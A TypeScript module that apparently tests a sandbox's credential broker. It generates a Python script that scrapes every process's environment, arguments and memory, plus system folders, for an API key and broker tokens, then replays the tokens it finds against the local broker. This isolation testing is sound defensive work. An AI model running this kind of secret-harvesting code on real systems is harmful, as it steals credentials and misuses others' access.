import * as z from "zod/mini";

/**
 * What a hostile program in a sandbox does: it searches the environment, the arguments and the memory of every process, and
 * every file, for a key. It searches for the token of the broker too, which shows that it can find what is there.
 */
const source = `
import http.client, json, os, re, sys

# In pieces, because this text itself is in the memory of the agent's CLI.
key = "".join(PIECES).encode()
token = re.compile(rb"clg-[A-Za-z0-9_-]{43}")
places = {"key": set(), "token": set()}
tokens = set()

def look(place, data):
    if key in data:
        places["key"].add(place)
    for each in token.findall(data):
        places["token"].add(place)
        tokens.add(each.decode())

def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(50_000_000)
    except OSError:
        return b""

def used_spans(pid):
    """The parts of a process's memory that it has written to, a MB each: most of it is reserved, or the program itself."""
    start = end = 0
    for line in read("/proc/%s/smaps" % pid).decode().splitlines():
        span = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
        if re.match(r"[0-9a-f]+-[0-9a-f]+ ", line):
            start, end = (int(each, 16) for each in span.groups()) if span else (0, 0)
        elif line.startswith("Anonymous:") and int(line.split()[1]) > 0:
            with open("/proc/%s/pagemap" % pid, "rb") as pagemap:
                for at in range(start, end, 2**20):
                    pagemap.seek(at // 4096 * 8)
                    if max(pagemap.read(min(2**20, end - at) // 4096 * 8)[7::8], default=0) >= 0x40:
                        yield at, min(2**20, end - at)

def memory(pid):
    try:
        with open("/proc/%s/mem" % pid, "rb", buffering=0) as mem:
            tail = b""
            for at, length in used_spans(pid):
                try:
                    mem.seek(at)
                    data = mem.read(length) or b""
                except OSError:
                    data = b""
                yield tail + data
                tail = data[-100:]
    except OSError:
        return

def search():
    pids = [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    for pid in pids:
        name = read("/proc/%s/comm" % pid).decode().strip()
        for part in ("environ", "cmdline"):
            look("%s of %s" % (part, name), read("/proc/%s/%s" % (pid, part)))
        for data in memory(pid):
            look("memory of %s" % name, data)
    for top in ("/workspace", "/root", "/tmp", "/run", "/dev/shm", "/app", "/etc"):
        for folder, _, files in os.walk(top):
            for each in files:
                path = os.path.join(folder, each)
                if os.path.isfile(path):
                    look(path, read(path))

def ask(path, headers):
    connection = http.client.HTTPConnection("127.0.0.1", 3128, timeout=20)
    connection.request("POST", path, "{}", headers)
    return connection.getresponse().status

def status(path, value):
    return ask("/model" + path, {"x-api-key": value, "content-type": "application/json"})

given = sys.argv[1:]
if not given:
    search()
statuses = {
    "none": status(PATH, "x"),
    "earlier": [status(PATH, each) for each in given],
    "elsewhere": [status("/v1/files", each) for each in tokens],
}
print(json.dumps({**{name: sorted(found) for name, found in places.items()}, "tokens": sorted(tokens), **statuses}))
`;

/**
 * @param path of a request to the model, below the base URL
 * @param earlier tokens of earlier prompts, to try instead of searching
 * @returns a shell command for the sandbox
 */
export function keyHunt(key: string, path: string, earlier: readonly string[] = []): string {
  const pieces = JSON.stringify(key.match(/.{1,3}/g) ?? []);
  const script = source.replace("PIECES", pieces).replaceAll("PATH", JSON.stringify(path));
  return `python3 - ${earlier.join(" ")} <<'END'\n${script}\nEND`;
}

function parseJson(output: string): unknown {
  try {
    return JSON.parse(output);
  } catch {
    throw new Error(`the hunt failed: ${output}`);
  }
}

/** What a hunt has found: places, tokens, and the statuses of its own requests to the broker. */
export const hunted = z.pipe(
  z.transform(parseJson),
  z.object({
    key: z.array(z.string()),
    token: z.array(z.string()),
    tokens: z.array(z.string()),
    none: z.number(),
    earlier: z.array(z.number()),
    elsewhere: z.array(z.number()),
  }),
);
